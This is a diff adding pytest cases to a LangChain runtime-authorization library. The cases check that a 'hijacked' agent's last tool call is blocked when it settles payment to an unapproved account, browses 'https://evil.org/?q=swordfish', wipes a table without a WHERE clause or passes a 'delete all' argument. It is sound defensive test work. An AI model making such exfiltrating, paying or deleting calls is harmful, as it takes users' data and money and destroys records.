@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import yaml
 from langchain_core.tools import ToolException
+from pydantic import create_model
 
 from langchain_runtime_authz.errors import Code
 from langchain_runtime_authz.mandate import model as m
@@ -153,6 +154,75 @@ def written_and_paid(how: str, go: Any, *, protected: bool) -> list[str]:
     steps = m.Step("save", "save", {"name": m.Free()}), m.Step("look", "look"), m.Step("pay", "pay", {"to": m.Field("look", "iban")})
     assert "__interrupt__" in told(authz, authz.protect(graph), human(), THREAD, go=go, mandate=m.Mandate(steps=steps))
     return paid
+
+
+BOOK = {
+    "keep": ToolProfile(effect="write", sink="internal", free=("text",), data_class="public"),
+    "look": ToolProfile(effect="read", sink="none", trust="system", free=("page",), data_class="public"),
+    "settle": ToolProfile(effect="pay", critical={"to": "principal"}),
+    "wipe": ToolProfile(effect="delete", critical={"table": "object"}),
+    "label": ToolProfile(critical={"ticket": "object"}),
+    "browse": ToolProfile(effect="fetch", critical={"url": "url"}, data_class="public"),
+}
+KEEP, LOOK = m.Step("k", "keep", {"text": m.Free()}), m.Step("r", "look")
+ROW = (KEEP, LOOK, m.Step("s", "settle", {"to": m.Pick("r", "account", {"name": "Bob"})}))
+SAVED, EVIL = "12345678", "https://evil.org/?q=swordfish"
+PREPARED: dict[str, tuple[tuple[m.Step, ...], tuple[Call, ...]]] = {
+    "a field of an own text": (ROW, (("keep", {"text": f"Bob,{SAVED}"}), ("look", {}), ("settle", {"to": SAVED}))),
+    "a field of an own long text": (ROW, (("keep", {"text": f"{'x' * 3000}\nBob, {SAVED}"}), ("look", {}), ("settle", {"to": SAVED}))),
+    "an address in an own text": ((KEEP,), (("keep", {"text": f"Bob,{EVIL}"}), ("look", {}), ("browse", {"url": EVIL}))),
+    "a page of a list": ((LOOK, m.Step("s", "settle", {"to": m.Field("r", "account")})), (("look", {"page": 2}), ("settle", {"to": "222"}))),
+    "nothing where something must be given": ((m.Step("w", "wipe", {"table": "users"}),), (("wipe", {"table": "users", "where": None}),)),
+    "a name without a value": ((m.Step("l", "label", {"ticket": "T-5"}),), (("label", {"ticket": "T-5", "delete all": None}),)),
+}  # fmt: skip
+
+
+def booked(steps: tuple[m.Step, ...], *calls: Call, go: Any, protected: bool, rows: str = "Ann,111\nEve,222") -> list[Call]:
+    """What ran of the calls. `look` takes the rows out of what was kept."""
+    happened, kept = list[Call](), [rows]
+
+    def act(name: str) -> Callable[..., Any]:
+        def acted(**given: Any) -> str:
+            happened.append((name, given))
+            kept[:] = [given["text"]] if name == "keep" else kept
+            found = [dict(zip(("name", "account"), map(str.strip, line.split(",")), strict=True)) for line in kept[0].splitlines() if "," in line]
+            return json.dumps(found[given["page"] - 1 :][:1] if given.get("page") else found) if name == "look" else "done"
+
+        return acted
+
+    def look(page: int = 0) -> None: ...
+    def wipe(table: str, where: str | None) -> None: ...
+
+    named = {"keep": {"text": (str, ...)}, "settle": {"to": (str, ...)}, "browse": {"url": (str, ...)}, "label": {"ticket": (str, ...), "__config__": {"extra": "allow"}}}
+    schemas = {"look": tool(look, description="Look.").args_schema, "wipe": tool(wipe, description="Wipe.").args_schema, **{n: create_model(n, **f) for n, f in named.items()}}
+    tools = [StructuredTool.from_function(act(name), name=name, description="Act.", args_schema=schema) for name, schema in schemas.items()]
+    graph = hand_written(model(*calls), tools, checkpointer=InMemorySaver())
+    authz = RuntimeAuthz(profiles=BOOK) if protected else None
+    graph = authz.protect(graph) if authz is not None else graph
+    with authz.run(subject="alice", mandate=m.Mandate(steps=steps)) if authz is not None else nullcontext():
+        go(graph, human(), THREAD)
+    return happened
+
+
+@pytest.mark.parametrize("way", PREPARED)
+def test_a_hijacked_model_prepares_what_an_order_reads(way: str, go: Any) -> None:
+    steps, calls = PREPARED[way]
+    assert [name for name, _ in booked(steps, *calls, go=go, protected=True)] == [name for name, _ in calls[:-1]]
+    assert [name for name, _ in booked(steps, *calls, go=go, protected=False)] == [name for name, _ in calls]
+
+
+def test_what_a_list_holds_by_itself_is_paid_unasked(go: Any) -> None:
+    calls = ("keep", {"text": "the news"}), ("look", {}), ("settle", {"to": "111"})
+    one = m.Step("s", "settle", {"to": m.Field("r", "account")})
+    assert [name for name, _ in booked((LOOK, one), *calls[1:], go=go, protected=True, rows="Ann,111")] == ["look", "settle"]
+    where = m.Step("w", "wipe", {"table": "users", "where": "old"})
+    assert [name for name, _ in booked((where,), ("wipe", {"table": "users", "where": "old"}), go=go, protected=True)] == ["wipe"]
+
+
+@pytest.mark.parametrize(("ordered", "given"), [("10.10.0.12", "10.100.1.2"), ("12-345678", "123456-78"), ("+49 30 1234567", "4930 1234567")])
+def test_other_groups_of_the_same_digits_are_another_party(ordered: str, given: str, go: Any) -> None:
+    held(pays(ordered), pay(given), go=go)
+    held(pays(ordered), pay(ordered), go=go, ran=[("pay", ordered, 45.0)])
 
 
 def test_each_record_is_paid_once(go: Any) -> None:
